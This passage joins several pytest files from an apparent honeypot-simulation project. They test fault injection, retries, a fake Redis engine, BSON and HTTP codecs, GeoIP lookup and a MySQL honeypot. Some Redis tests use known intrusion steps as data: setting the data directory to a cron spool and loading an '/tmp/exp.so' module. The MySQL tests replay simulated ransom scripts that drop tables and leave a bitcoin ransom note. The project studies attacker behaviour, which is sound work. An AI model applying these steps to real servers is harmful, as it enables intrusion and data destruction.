        assert result.quarantined_visits > 0
        assert result.conservation_ok
        records = read_dead_letters(result.quarantine_path)
        assert len(records) == result.quarantined_visits
        assert all(r["kind"] == "visit" for r in records)
        assert all("InjectedFault" in r["reason"] for r in records)
        assert {"actor", "seq", "target", "offset"} <= set(records[0])

    def test_mid_session_crash_quarantines_its_events(self, tmp_path):
        # Disconnect faults surface as WireError inside scripts; scripts
        # that don't swallow them crash mid-visit, so their already
        # emitted events must move to the dead letter, not the DB.
        plan = faults.FaultPlan(
            [faults.FaultSpec("wire.disconnect", probability=0.10)],
            seed=3, name="droppy")
        result = run_experiment(ExperimentConfig(
            seed=2024, volume_scale=SCALE, output_dir=tmp_path,
            telemetry=True, fault_plan=plan))
        assert result.conservation_ok
        stored = (count_events(result.low_db)
                  + count_events(result.midhigh_db))
        assert stored == result.events_total


class TestHardeningUnderFaults:
    def test_sqlite_lock_survived_by_retry(self, tmp_path):
        result = run_experiment(chaos_config(tmp_path, "sqlite-lock"))
        assert result.conservation_ok
        metrics = result.report["metrics"]
        retries = [c for c in metrics["counters"]
                   if c["name"] == "resilience.sqlite_retries"]
        assert sum(c["value"] for c in retries) == 2
        assert count_events(result.low_db) > 0
        assert count_events(result.midhigh_db) > 0

    def test_enrich_failures_fall_back_not_drop(self, tmp_path):
        result = run_experiment(chaos_config(tmp_path, "enrich-fail"))
        assert result.conservation_ok
        fired = result.config.fault_plan.fires("enrich.lookup")
        assert fired > 0
        counters = {c["name"]: c["value"]
                    for c in result.report["metrics"]["counters"]
                    if not c["labels"]}
        assert counters["resilience.enrich_fallbacks"] == fired
        # Every event still made it into the databases.
        stored = (count_events(result.low_db)
                  + count_events(result.midhigh_db))
        assert stored == result.events_total


class TestManifest:
    def test_resilience_section(self, tmp_path):
        result = run_experiment(chaos_config(tmp_path, "all"))
        section = result.report["resilience"]
        assert section["conservation_ok"] is True
        assert section["events_generated"] == result.events_generated
        assert section["events_stored"] == result.events_total
        assert section["events_quarantined"] == result.events_quarantined
        assert section["fault_plan"] == "all"
        assert set(section["faults"]) == set(faults.BUILTIN_PLANS["all"])
        # The manifest on disk round-trips.
        manifest = json.loads(result.report_path.read_text())
        assert manifest["resilience"]["conservation_ok"] is True

    def test_clean_telemetry_run_reports_empty_faults(self, tmp_path):
        result = run_experiment(ExperimentConfig(
            seed=2024, volume_scale=SCALE, output_dir=tmp_path,
            telemetry=True))
        section = result.report["resilience"]
        assert section["fault_plan"] is None
        assert section["faults"] == {}
        assert section["conservation_ok"] is True
