"""Tests for the in-memory Redis keyspace."""

import pytest
from hypothesis import given, strategies as st

from repro.redis_engine import RedisEngine, WrongTypeError


@pytest.fixture
def engine() -> RedisEngine:
    return RedisEngine()


class TestStrings:
    def test_set_get(self, engine):
        engine.set(b"k", b"v")
        assert engine.get(b"k") == b"v"

    def test_get_missing_is_none(self, engine):
        assert engine.get(b"nope") is None

    def test_set_overwrites(self, engine):
        engine.set(b"k", b"v1")
        engine.set(b"k", b"v2")
        assert engine.get(b"k") == b"v2"

    def test_set_replaces_hash(self, engine):
        engine.hset(b"k", {b"f": b"v"})
        engine.set(b"k", b"v")
        assert engine.type(b"k") == "string"


class TestHashes:
    def test_hset_hgetall(self, engine):
        added = engine.hset(b"h", {b"a": b"1", b"b": b"2"})
        assert added == 2
        assert engine.hgetall(b"h") == {b"a": b"1", b"b": b"2"}

    def test_hset_counts_only_new_fields(self, engine):
        engine.hset(b"h", {b"a": b"1"})
        assert engine.hset(b"h", {b"a": b"2", b"b": b"3"}) == 1

    def test_wrong_type_errors(self, engine):
        engine.set(b"s", b"v")
        with pytest.raises(WrongTypeError):
            engine.hset(b"s", {b"f": b"v"})
        engine.hset(b"h", {b"f": b"v"})
        with pytest.raises(WrongTypeError):
            engine.get(b"h")


class TestKeyspace:
    def test_delete(self, engine):
        engine.set(b"a", b"1")
        engine.hset(b"b", {b"f": b"v"})
        assert engine.delete([b"a", b"b", b"missing"]) == 2
        assert engine.dbsize() == 0

    def test_exists(self, engine):
        engine.set(b"a", b"1")
        assert engine.exists(b"a")
        assert not engine.exists(b"b")

    def test_keys_glob(self, engine):
        for key in (b"user:1", b"user:2", b"other"):
            engine.set(key, b"x")
        assert engine.keys(b"user:*") == [b"user:1", b"user:2"]
        assert len(engine.keys()) == 3

    def test_type(self, engine):
        engine.set(b"s", b"v")
        engine.hset(b"h", {b"f": b"v"})
        assert engine.type(b"s") == "string"
        assert engine.type(b"h") == "hash"
        assert engine.type(b"missing") == "none"

    def test_flushdb(self, engine):
        engine.set(b"a", b"1")
        engine.flushdb()
        assert engine.dbsize() == 0


class TestConfig:
    def test_defaults(self, engine):
        assert engine.config_get("dir") == {"dir": "/var/lib/redis"}
        assert engine.config_get("dbfilename") == {
            "dbfilename": "dump.rdb"}

    def test_set_and_get(self, engine):
        engine.config_set("dir", "/var/spool/cron")
        assert engine.config_get("dir") == {"dir": "/var/spool/cron"}

    def test_unknown_parameters_accepted(self, engine):
        engine.config_set("stop-writes-on-bgsave-error", "no")
        assert engine.config_get("stop-writes-on-bgsave-error") == {
            "stop-writes-on-bgsave-error": "no"}

    def test_glob_pattern(self, engine):
        found = engine.config_get("db*")
        assert "dbfilename" in found


class TestReplicationAndModules:
    def test_slaveof_and_role(self, engine):
        assert engine.replication.role == "master"
        engine.slaveof("10.0.0.1", 6380)
        assert engine.replication.role == "slave"
        engine.slaveof(None, None)
        assert engine.replication.role == "master"

    def test_module_load_unload(self, engine):
        engine.module_load("/tmp/exp.so")
        assert engine.loaded_modules == ["/tmp/exp.so"]
        assert engine.module_unload("exp")
        assert engine.loaded_modules == []
        assert not engine.module_unload("exp")

    def test_info_reflects_state(self, engine):
        engine.set(b"k", b"v")
        engine.slaveof("1.2.3.4", 1234)
        info = engine.info()
        assert "role:slave" in info
        assert "db0:keys=1" in info
        assert f"redis_version:{engine.version}" in info

    def test_save_resets_dirty(self, engine):
        engine.set(b"k", b"v")
        assert engine.dirty == 1
        engine.save()
        assert engine.dirty == 0


@given(st.dictionaries(st.binary(min_size=1, max_size=8),
                       st.binary(max_size=16), max_size=20))
def test_set_get_consistency_property(entries):
    engine = RedisEngine()
    for key, value in entries.items():
        engine.set(key, value)
    for key, value in entries.items():
        assert engine.get(key) == value
    assert engine.dbsize() == len(entries)
    assert sorted(engine.keys()) == sorted(entries)
