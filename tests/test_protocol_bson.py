"""Tests for the BSON codec."""

from datetime import datetime, timezone

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.protocols import bson
from repro.protocols.errors import ProtocolError


def roundtrip(document: dict) -> dict:
    encoded = bson.encode_document(document)
    decoded, end = bson.decode_document(encoded)
    assert end == len(encoded)
    return decoded


class TestScalarTypes:
    def test_string(self):
        assert roundtrip({"s": "héllo"}) == {"s": "héllo"}

    def test_int32_and_int64(self):
        assert roundtrip({"a": 1, "b": 1 << 40}) == {"a": 1, "b": 1 << 40}

    def test_int64_boundaries(self):
        edge = {"lo": -(1 << 63), "hi": (1 << 63) - 1}
        assert roundtrip(edge) == edge

    def test_oversized_int_rejected(self):
        with pytest.raises(TypeError):
            bson.encode_document({"x": 1 << 70})

    def test_double(self):
        assert roundtrip({"f": 2.5}) == {"f": 2.5}

    def test_bool_distinct_from_int(self):
        decoded = roundtrip({"t": True, "f": False, "i": 1})
        assert decoded["t"] is True
        assert decoded["f"] is False
        assert decoded["i"] == 1 and decoded["i"] is not True

    def test_null(self):
        assert roundtrip({"n": None}) == {"n": None}

    def test_binary(self):
        assert roundtrip({"b": b"\x00\xff"}) == {"b": b"\x00\xff"}

    def test_datetime_millisecond_precision(self):
        when = datetime(2024, 3, 22, 12, 30, 45, 123000,
                        tzinfo=timezone.utc)
        assert roundtrip({"t": when}) == {"t": when}

    def test_datetime_boundary_roundtrips_exact(self):
        # Large epochs where float(timestamp) * 1000 loses the last
        # millisecond: every whole-millisecond datetime must survive
        # the encode -> decode round trip bit-exact.
        boundaries = [
            datetime(1970, 1, 1, tzinfo=timezone.utc),
            datetime(1969, 12, 31, 23, 59, 59, 999000,
                     tzinfo=timezone.utc),
            datetime(2038, 1, 19, 3, 14, 7, 999000,
                     tzinfo=timezone.utc),
            datetime(2106, 2, 7, 6, 28, 15, 1000, tzinfo=timezone.utc),
            datetime(9999, 12, 31, 23, 59, 59, 999000,
                     tzinfo=timezone.utc),
            datetime(1, 1, 1, tzinfo=timezone.utc),
        ]
        for when in boundaries:
            assert roundtrip({"t": when}) == {"t": when}, when

    def test_datetime_encoding_is_exact_integer_millis(self):
        import struct

        # Regression: int(timestamp() * 1000) drops a millisecond here
        # (the float path yields ...502); the timedelta path is exact.
        when = datetime(2526, 4, 6, 21, 50, 33, 503000,
                        tzinfo=timezone.utc)
        millis = 17553966633503
        assert int(when.timestamp() * 1000) == millis - 1  # float loses
        encoded = bson.encode_document({"t": when})
        assert struct.pack("<q", millis) in encoded
        assert roundtrip({"t": when}) == {"t": when}

    def test_datetime_out_of_range_millis_raises(self):
        import struct

        payload = b"\x09t\x00" + struct.pack("<q", 1 << 62) + b"\x00"
        encoded = struct.pack("<i", len(payload) + 4) + payload
        with pytest.raises(ProtocolError):
            bson.decode_document(encoded)

    def test_object_id(self):
        oid = bson.ObjectId.from_counter(12345)
        assert roundtrip({"_id": oid}) == {"_id": oid}
        assert len(oid.hex()) == 24

    def test_object_id_validates_length(self):
        with pytest.raises(ValueError):
            bson.ObjectId(b"short")


class TestContainers:
    def test_nested_document(self):
        doc = {"outer": {"inner": {"deep": 1}}}
        assert roundtrip(doc) == doc

    def test_array(self):
        doc = {"items": [1, "two", None, {"three": 3}]}
        assert roundtrip(doc) == doc

    def test_array_preserves_order_past_ten_elements(self):
        doc = {"long": list(range(15))}
        assert roundtrip(doc) == doc

    def test_empty_document(self):
        assert roundtrip({}) == {}


class TestErrors:
    def test_non_string_key_rejected(self):
        with pytest.raises(TypeError):
            bson.encode_document({1: "x"})

    def test_unsupported_value_rejected(self):
        with pytest.raises(TypeError):
            bson.encode_document({"x": object()})

    def test_truncated_document_raises(self):
        encoded = bson.encode_document({"a": 1})
        with pytest.raises(ProtocolError):
            bson.decode_document(encoded[:-3])

    def test_bad_length_raises(self):
        with pytest.raises(ProtocolError):
            bson.decode_document(b"\x00\x00\x00\x00\x00")

    def test_unknown_element_type_raises(self):
        encoded = bytearray(bson.encode_document({"a": 1}))
        encoded[4] = 0x7F
        with pytest.raises(ProtocolError):
            bson.decode_document(bytes(encoded))


_scalars = st.one_of(
    st.integers(min_value=-(1 << 62), max_value=1 << 62),
    st.text(max_size=24),
    st.booleans(),
    st.none(),
    st.binary(max_size=24),
    st.floats(allow_nan=False, allow_infinity=False, width=64),
)

_keys = st.text(
    alphabet=st.characters(min_codepoint=33, max_codepoint=126,
                           exclude_characters="$."),
    min_size=1, max_size=12)

_documents = st.dictionaries(
    _keys,
    st.one_of(_scalars,
              st.lists(_scalars, max_size=3),
              st.dictionaries(_keys, _scalars, max_size=3)),
    max_size=5)


@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(_documents)
def test_roundtrip_property(document):
    assert roundtrip(document) == document
