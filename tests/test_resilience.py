"""Unit tests for the resilience subsystem: fault plans, retry with
backoff, and the dead-letter writer."""

import json
import random
import sqlite3

import pytest

from repro import obs
from repro.resilience import faults
from repro.resilience.deadletter import DeadLetterWriter, read_dead_letters
from repro.resilience.faults import (BUILTIN_PLANS, NULL_PLAN, FaultPlan,
                                     FaultSpec, InjectedFault)
from repro.resilience.retry import (RetryPolicy, is_sqlite_busy,
                                    run_with_retry, sqlite_busy_retry)


class TestFaultPlan:
    def test_unknown_site_never_fires(self):
        plan = FaultPlan([FaultSpec("a", probability=1.0)], seed=1)
        assert not plan.should_fire("b")
        assert plan.should_fire("a")

    def test_probability_bounds(self):
        always = FaultPlan([FaultSpec("s", probability=1.0)], seed=3)
        never = FaultPlan([FaultSpec("s", probability=0.0)], seed=3)
        assert all(always.should_fire("s") for _ in range(50))
        assert not any(never.should_fire("s") for _ in range(50))

    def test_deterministic_for_fixed_seed(self):
        def decisions(seed):
            plan = FaultPlan([FaultSpec("s", probability=0.3)], seed=seed)
            return [plan.should_fire("s") for _ in range(200)]

        assert decisions(7) == decisions(7)
        assert decisions(7) != decisions(8)
        assert any(decisions(7)) and not all(decisions(7))

    def test_max_fires_caps_activations(self):
        plan = FaultPlan([FaultSpec("s", probability=1.0, max_fires=3)],
                         seed=0)
        fired = [plan.should_fire("s") for _ in range(10)]
        assert fired == [True] * 3 + [False] * 7
        assert plan.fires("s") == 3

    def test_start_after_skips_initial_evaluations(self):
        plan = FaultPlan([FaultSpec("s", probability=1.0, start_after=4)],
                         seed=0)
        fired = [plan.should_fire("s") for _ in range(6)]
        assert fired == [False] * 4 + [True] * 2

    def test_maybe_raise_default_and_custom_error(self):
        plan = FaultPlan([FaultSpec("s")], seed=0)
        with pytest.raises(InjectedFault, match="s"):
            plan.maybe_raise("s")
        with pytest.raises(KeyError):
            plan.maybe_raise("s", lambda: KeyError("boom"))
        plan.maybe_raise("unconfigured")  # no-op

    def test_mangle_corrupts_and_truncates(self):
        plan = FaultPlan([FaultSpec("wire.corrupt", probability=1.0)],
                         seed=0)
        data = b"HELLO WORLD"
        mangled = plan.mangle("wire", data)
        assert mangled != data and len(mangled) == len(data)

        plan = FaultPlan([FaultSpec("wire.truncate", probability=1.0)],
                         seed=0)
        mangled = plan.mangle("wire", data)
        assert 1 <= len(mangled) < len(data)
        assert data.startswith(mangled)

    def test_mangle_leaves_empty_payload_alone(self):
        plan = FaultPlan([FaultSpec("wire.corrupt"),
                          FaultSpec("wire.truncate")], seed=0)
        assert plan.mangle("wire", b"") == b""
        # A 1-byte payload may be corrupted but never truncated away.
        assert len(plan.mangle("wire", b"x")) == 1

    def test_snapshot_counts_evaluations_and_fires(self):
        plan = FaultPlan([FaultSpec("s", probability=1.0, max_fires=1)],
                         seed=0)
        plan.should_fire("s")
        plan.should_fire("s")
        assert plan.snapshot() == {"s": {"evaluations": 2, "fires": 1}}
        assert plan.fires_total() == 1

    def test_fires_counted_into_installed_metrics(self):
        telemetry = obs.Telemetry(enabled=True)
        plan = FaultPlan([FaultSpec("s")], seed=0)
        with obs.install(telemetry):
            plan.should_fire("s")
        assert telemetry.metrics.counter_value("faults.injected",
                                               site="s") == 1


class TestAmbientPlan:
    def test_default_is_null_plan(self):
        assert faults.current() is NULL_PLAN
        assert not NULL_PLAN.should_fire("anything")
        assert NULL_PLAN.mangle("wire", b"data") == b"data"
        NULL_PLAN.maybe_raise("anything")

    def test_install_and_restore(self):
        plan = FaultPlan([FaultSpec("s")], seed=0)
        with faults.install(plan) as installed:
            assert installed is plan
            assert faults.current() is plan
        assert faults.current() is NULL_PLAN

    def test_install_none_is_null(self):
        with faults.install(None):
            assert faults.current() is NULL_PLAN


class TestNamedPlans:
    def test_builtin_all_superset(self):
        # "all" covers every recoverable site; proc.kill is process-fatal
        # and only ships in the dedicated worker-kill plan.
        all_sites = set(BUILTIN_PLANS["all"])
        for name, sites in BUILTIN_PLANS.items():
            if name != "all":
                assert set(sites) - {"proc.kill"} <= all_sites

    def test_proc_kill_excluded_from_all(self):
        assert "proc.kill" not in BUILTIN_PLANS["all"]
        assert "proc.kill" in BUILTIN_PLANS["worker-kill"]

    def test_load_builtin_plan(self):
        plan = faults.load_plan("sqlite-lock", seed=9)
        assert plan.name == "sqlite-lock"
        assert plan.seed == 9
        assert plan.sites == ["sqlite.locked"]

    def test_load_unknown_plan_raises(self):
        with pytest.raises(ValueError, match="unknown fault plan"):
            faults.load_plan("no-such-plan")

    def test_load_json_file(self, tmp_path):
        path = tmp_path / "plan.json"
        path.write_text(json.dumps(
            {"wire.corrupt": {"probability": 0.5, "max_fires": 10}}))
        plan = faults.load_plan(str(path), seed=1)
        assert plan.name == "plan"
        assert plan.sites == ["wire.corrupt"]

    def test_load_malformed_json_raises(self, tmp_path):
        path = tmp_path / "bad.json"
        path.write_text("{nope")
        with pytest.raises(ValueError, match="not valid JSON"):
            faults.load_plan(str(path))
        path.write_text("[1, 2]")
        with pytest.raises(ValueError, match="JSON object"):
            faults.load_plan(str(path))

    def test_plan_from_dict_rejects_unknown_options(self):
        with pytest.raises(ValueError, match="unknown option"):
            faults.plan_from_dict({"s": {"probabilty": 0.5}})


class TestRetry:
    def test_succeeds_after_transient_failures(self):
        calls = []
        sleeps = []

        def action():
            calls.append(1)
            if len(calls) < 3:
                raise sqlite3.OperationalError("database is locked")
            return "done"

        result = sqlite_busy_retry(action, sleep=sleeps.append,
                                   rng=random.Random(0))
        assert result == "done"
        assert len(calls) == 3
        assert len(sleeps) == 2
        assert sleeps[1] > sleeps[0]  # exponential backoff

    def test_exhausted_attempts_reraise(self):
        def action():
            raise sqlite3.OperationalError("database is locked")

        policy = RetryPolicy(attempts=3, base_delay=0.0)
        with pytest.raises(sqlite3.OperationalError):
            sqlite_busy_retry(action, policy=policy, sleep=lambda _: None)

    def test_non_retryable_raises_immediately(self):
        calls = []

        def action():
            calls.append(1)
            raise sqlite3.OperationalError("no such table: events")

        with pytest.raises(sqlite3.OperationalError):
            sqlite_busy_retry(action, sleep=lambda _: None)
        assert len(calls) == 1

    def test_reset_runs_between_attempts(self):
        resets = []
        calls = []

        def action():
            calls.append(1)
            if len(calls) == 1:
                raise sqlite3.OperationalError("database is busy")
            return "ok"

        assert sqlite_busy_retry(action, reset=lambda: resets.append(1),
                                 sleep=lambda _: None) == "ok"
        assert resets == [1]

    def test_retries_counted_into_installed_metrics(self):
        telemetry = obs.Telemetry(enabled=True)
        calls = []

        def action():
            calls.append(1)
            if len(calls) < 2:
                raise sqlite3.OperationalError("database is locked")

        with obs.install(telemetry):
            sqlite_busy_retry(action, sleep=lambda _: None, db="low")
        assert telemetry.metrics.counter_value(
            "resilience.sqlite_retries", db="low") == 1

    def test_is_sqlite_busy_matcher(self):
        assert is_sqlite_busy(sqlite3.OperationalError("database is locked"))
        assert is_sqlite_busy(sqlite3.OperationalError("database is busy"))
        assert not is_sqlite_busy(sqlite3.OperationalError("syntax error"))
        assert not is_sqlite_busy(ValueError("locked"))

    def test_run_with_retry_custom_predicate(self):
        calls = []

        def action():
            calls.append(1)
            if len(calls) < 2:
                raise LookupError("transient")
            return 42

        assert run_with_retry(
            action, is_retryable=lambda e: isinstance(e, LookupError),
            sleep=lambda _: None) == 42


class TestDeadLetter:
    def test_lazy_file_creation(self, tmp_path):
        writer = DeadLetterWriter(tmp_path / "sub" / "dead.jsonl")
        assert not writer.path.exists()
        writer.close()
        assert not writer.path.exists()
        assert writer.count == 0

    def test_quarantine_writes_jsonl_records(self, tmp_path):
        from repro.pipeline.logstore import LogEvent

        event = LogEvent(timestamp=1.0, honeypot_id="hp", honeypot_type="q",
                         dbms="mysql", interaction="low", config="multi",
                         src_ip="1.2.3.4", src_port=9, event_type="connect")
        with DeadLetterWriter(tmp_path / "dead.jsonl") as writer:
            writer.quarantine("visit", "RuntimeError: boom",
                              actor="1.2.3.4", seq=0, events=[event])
            writer.quarantine("line", "bad json", path="x.jsonl")
            assert writer.count == 2
        records = read_dead_letters(tmp_path / "dead.jsonl")
        assert [r["kind"] for r in records] == ["visit", "line"]
        assert records[0]["reason"] == "RuntimeError: boom"
        assert records[0]["events"][0]["src_ip"] == "1.2.3.4"
        assert records[1]["events"] == []

    def test_quarantine_counts_into_installed_metrics(self, tmp_path):
        telemetry = obs.Telemetry(enabled=True)
        with obs.install(telemetry):
            writer = DeadLetterWriter(tmp_path / "dead.jsonl")
            writer.quarantine("visit", "boom")
            writer.close()
        assert telemetry.metrics.counter_value(
            "resilience.dead_letters", kind="visit") == 1
