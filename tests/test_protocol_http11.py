"""Tests for the minimal HTTP/1.1 framing."""

import pytest
from hypothesis import given, strategies as st

from repro.protocols import http11
from repro.protocols.errors import ProtocolError


class TestRequestParsing:
    def test_simple_get(self):
        parser = http11.HttpRequestParser()
        (request,) = parser.feed(http11.build_request("GET", "/_nodes"))
        assert request.method == "GET"
        assert request.path == "/_nodes"
        assert request.body == b""
        assert request.headers["host"] == "localhost"

    def test_query_string_parsing(self):
        parser = http11.HttpRequestParser()
        (request,) = parser.feed(
            http11.build_request("GET", "/_search?q=*&size=10"))
        assert request.path == "/_search"
        assert request.query == {"q": ["*"], "size": ["10"]}
        assert request.raw_query == "q=*&size=10"

    def test_post_with_body(self):
        parser = http11.HttpRequestParser()
        (request,) = parser.feed(http11.build_request(
            "POST", "/idx/_doc", body=b'{"a":1}'))
        assert request.method == "POST"
        assert request.body == b'{"a":1}'

    def test_partial_requests_buffer(self):
        parser = http11.HttpRequestParser()
        data = http11.build_request("POST", "/x", body=b"12345")
        assert parser.feed(data[:10]) == []
        assert parser.feed(data[10:-2]) == []
        (request,) = parser.feed(data[-2:])
        assert request.body == b"12345"

    def test_pipelined_requests(self):
        parser = http11.HttpRequestParser()
        data = (http11.build_request("GET", "/a")
                + http11.build_request("GET", "/b"))
        requests = parser.feed(data)
        assert [r.target for r in requests] == ["/a", "/b"]

    def test_malformed_request_line_raises(self):
        with pytest.raises(ProtocolError):
            http11.HttpRequestParser().feed(b"NOT HTTP\r\n\r\n")

    def test_unknown_method_raises(self):
        with pytest.raises(ProtocolError):
            http11.HttpRequestParser().feed(
                b"BREW /pot HTTP/1.1\r\n\r\n")

    def test_bad_content_length_raises(self):
        with pytest.raises(ProtocolError):
            http11.HttpRequestParser().feed(
                b"GET / HTTP/1.1\r\nContent-Length: nope\r\n\r\n")

    def test_header_case_insensitive(self):
        parser = http11.HttpRequestParser()
        (request,) = parser.feed(
            b"GET / HTTP/1.1\r\nX-Custom: Hi\r\n\r\n")
        assert request.headers["x-custom"] == "Hi"


class TestResponse:
    def test_roundtrip(self):
        raw = http11.build_response(200, '{"ok":true}')
        response = http11.parse_response(raw)
        assert response.status == 200
        assert response.reason == "OK"
        assert response.body == b'{"ok":true}'
        assert response.headers["content-type"] == "application/json"

    def test_status_reasons(self):
        assert b"404 Not Found" in http11.build_response(404)
        assert b"201 Created" in http11.build_response(201)

    def test_custom_content_type(self):
        raw = http11.build_response(200, "text", content_type="text/plain")
        assert http11.parse_response(raw).headers[
            "content-type"] == "text/plain"

    def test_truncated_body_raises(self):
        raw = http11.build_response(200, "full body")
        with pytest.raises(ProtocolError):
            http11.parse_response(raw[:-3])

    def test_incomplete_head_raises(self):
        with pytest.raises(ProtocolError):
            http11.parse_response(b"HTTP/1.1 200 OK\r\n")


@given(st.sampled_from(["GET", "POST", "PUT", "DELETE"]),
       st.binary(max_size=128))
def test_request_roundtrip_property(method, body):
    parser = http11.HttpRequestParser()
    (request,) = parser.feed(http11.build_request(method, "/p", body=body))
    assert request.method == method
    assert request.body == body


@given(st.integers(min_value=100, max_value=599),
       st.binary(max_size=128))
def test_response_roundtrip_property(status, body):
    response = http11.parse_response(http11.build_response(status, body))
    assert response.status == status
    assert response.body == body
