"""Tests for the GeoLite-style lookup database."""

from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.geoip import GeoIPDatabase


def build_space() -> AddressSpace:
    space = AddressSpace()
    space.register_as(64500, "HOSTCO", "Germany", ASType.HOSTING)
    space.register_as(64501, "SECSCAN", "United States", ASType.SECURITY)
    return space


def test_snapshot_covers_allocated_addresses():
    space = build_space()
    ips = [space.allocate(64500) for _ in range(3)]
    geoip = GeoIPDatabase.from_address_space(space)
    assert len(geoip) == 3
    record = geoip.lookup(ips[0])
    assert record.country == "Germany"
    assert record.asn == 64500
    assert record.as_name == "HOSTCO"
    assert record.as_type is ASType.HOSTING
    assert record.known


def test_lookup_respects_per_ip_country_override():
    space = build_space()
    ip = space.allocate(64500, country="Russia")
    geoip = GeoIPDatabase.from_address_space(space)
    assert geoip.lookup(ip).country == "Russia"
    assert geoip.lookup(ip).asn == 64500


def test_unmapped_address_yields_unknown_record():
    geoip = GeoIPDatabase.from_address_space(build_space())
    record = geoip.lookup("198.51.100.77")
    assert record.country == "Unknown"
    assert record.asn is None
    assert record.as_type is ASType.UNKNOWN
    assert not record.known


def test_snapshot_is_frozen_against_later_allocations():
    space = build_space()
    space.allocate(64501)
    geoip = GeoIPDatabase.from_address_space(space)
    late = space.allocate(64501)
    assert not geoip.lookup(late).known


def test_lookup_accepts_string_and_address_objects():
    space = build_space()
    ip = space.allocate(64500)
    geoip = GeoIPDatabase.from_address_space(space)
    assert geoip.lookup(str(ip)) == geoip.lookup(ip)
