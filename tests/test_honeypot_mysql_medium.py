"""Tests for the medium-interaction MySQL honeypot and query client."""

import random

import pytest

from repro.agents.base import VisitContext
from repro.agents.exploits.mysql_attacks import (MYSQL_RANSOM_TEMPLATES,
                                                 make_mysql_ransom_script)
from repro.clients import MySQLQueryClient
from repro.honeypots.base import MemoryWire, SessionContext
from repro.honeypots.mysql_medium import (DECOY_TABLES,
                                          MediumInteractionMySQL,
                                          normalize_mysql_action)
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import EventType, LogStore
from repro.protocols import mysql


@pytest.fixture
def honeypot():
    return MediumInteractionMySQL("ext-mysql")


@pytest.fixture
def client(honeypot, session_context):
    client = MySQLQueryClient(MemoryWire(honeypot, session_context))
    client.connect()
    assert client.login("root", "anything").success
    return client


class TestResultsetCodec:
    def test_roundtrip(self):
        data = mysql.build_text_resultset(["a", "b"],
                                          [["1", None], ["x", "y"]])
        packets = mysql.PacketReader().feed(data)
        columns, rows = mysql.parse_text_resultset(packets)
        assert columns == ["a", "b"]
        assert rows == [["1", None], ["x", "y"]]

    def test_empty_resultset(self):
        data = mysql.build_text_resultset(["only"], [])
        columns, rows = mysql.parse_text_resultset(
            mysql.PacketReader().feed(data))
        assert columns == ["only"]
        assert rows == []

    def test_com_query_roundtrip(self):
        opcode, argument = mysql.parse_command(
            mysql.build_com_query("SELECT 1"))
        assert opcode == mysql.COM_QUERY
        assert argument == b"SELECT 1"


class TestNormalization:
    @pytest.mark.parametrize("sql,action", [
        ("SELECT @@version;", "SELECT @@VERSION"),
        ("SHOW DATABASES;", "SHOW DATABASES"),
        ("show tables;", "SHOW TABLES"),
        ("SELECT * FROM users;", "SELECT FROM"),
        ("DROP TABLE users;", "DROP TABLE"),
        ("INSERT INTO t VALUES ('x');", "INSERT"),
        ("???", "UNKNOWN SQL"),
    ])
    def test_actions(self, sql, action):
        assert normalize_mysql_action(sql) == action


class TestInteraction:
    def test_any_login_accepted_and_captured(self, honeypot,
                                             session_context, log_store):
        client = MySQLQueryClient(MemoryWire(honeypot, session_context))
        client.connect()
        assert client.login("admin", "t0psecret").success
        (login,) = [e for e in log_store
                    if e.event_type == EventType.LOGIN_ATTEMPT.value]
        assert (login.username, login.password) == ("admin", "t0psecret")

    def test_version_query(self, client):
        result = client.query("SELECT @@version;")
        assert result.rows == [["8.0.36"]]

    def test_show_databases_and_tables(self, client):
        assert ["shop"] in client.query("SHOW DATABASES;").rows
        tables = [row[0] for row in client.query("SHOW TABLES;").rows]
        assert tables == sorted(DECOY_TABLES)

    def test_select_dump(self, client):
        result = client.query("SELECT * FROM users;")
        assert len(result.rows) == 3
        assert result.rows[0][1] == "alice"

    def test_drop_table_really_drops(self, client, honeypot):
        assert client.query("DROP TABLE users;").ok
        assert "users" not in honeypot.tables
        result = client.query("SELECT * FROM users;")
        assert not result.ok

    def test_unknown_table_errors(self, client):
        result = client.query("SELECT * FROM nothere;")
        assert not result.ok
        assert "exist" in result.error_message

    def test_create_and_insert(self, client, honeypot):
        assert client.query("CREATE TABLE notes (x text);").ok
        assert client.query(
            "INSERT INTO notes VALUES ('hello');").ok
        assert honeypot.tables["notes"] == [["hello"]]

    def test_syntax_error_for_garbage(self, client):
        result = client.query("garbage query here")
        assert not result.ok

    def test_ping_and_quit(self, client):
        assert client.ping()
        client.quit()

    def test_default_config_has_no_tables(self, session_context):
        honeypot = MediumInteractionMySQL("hp", config="default")
        client = MySQLQueryClient(MemoryWire(honeypot, session_context))
        client.connect()
        client.login("root", "root")
        assert client.query("SHOW TABLES;").rows == []


class TestRansomScripts:
    def run(self, honeypot, template_index, ip="198.51.100.5"):
        store = LogStore()
        clock = SimClock()

        def opener(target_key=None):
            return MemoryWire(honeypot, SessionContext(
                ip, 40000, clock, store.append))

        script = make_mysql_ransom_script(template_index)
        script(VisitContext(opener=opener, target_key="t",
                            rng=random.Random(0)))
        return store

    def test_full_ransom_flow(self, honeypot):
        store = self.run(honeypot, 0)
        assert sorted(honeypot.tables) == ["README_TO_RECOVER"]
        note = honeypot.tables["README_TO_RECOVER"][0][0]
        assert "BTC" in note
        actions = [e.action for e in store
                   if e.event_type == EventType.QUERY.value]
        assert "DROP TABLE" in actions
        assert "INSERT" in actions

    def test_three_distinct_templates(self):
        notes = set()
        for index in range(3):
            honeypot = MediumInteractionMySQL(f"hp-{index}")
            self.run(honeypot, index)
            notes.add(honeypot.tables["README_TO_RECOVER"][0][0])
        assert len(notes) == 3
        assert notes == set(MYSQL_RANSOM_TEMPLATES)


from hypothesis import given, settings, strategies as st


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(min_codepoint=32,
                                               max_codepoint=126),
                        min_size=1, max_size=12),
                min_size=1, max_size=5, unique=True),
       st.lists(st.lists(st.one_of(st.none(),
                                   st.text(max_size=16)),
                         min_size=1, max_size=5),
                max_size=6))
def test_resultset_roundtrip_property(columns, rows):
    rows = [row[:len(columns)] + [None] * (len(columns) - len(row))
            for row in rows]
    data = mysql.build_text_resultset(columns, rows)
    packets = mysql.PacketReader().feed(data)
    decoded_columns, decoded_rows = mysql.parse_text_resultset(packets)
    assert decoded_columns == columns
    assert decoded_rows == rows
