"""Tests for the in-process MongoDB engine and its query matcher."""

import pytest
from hypothesis import given, strategies as st

from repro.mongodb_engine import MongoEngine, matches
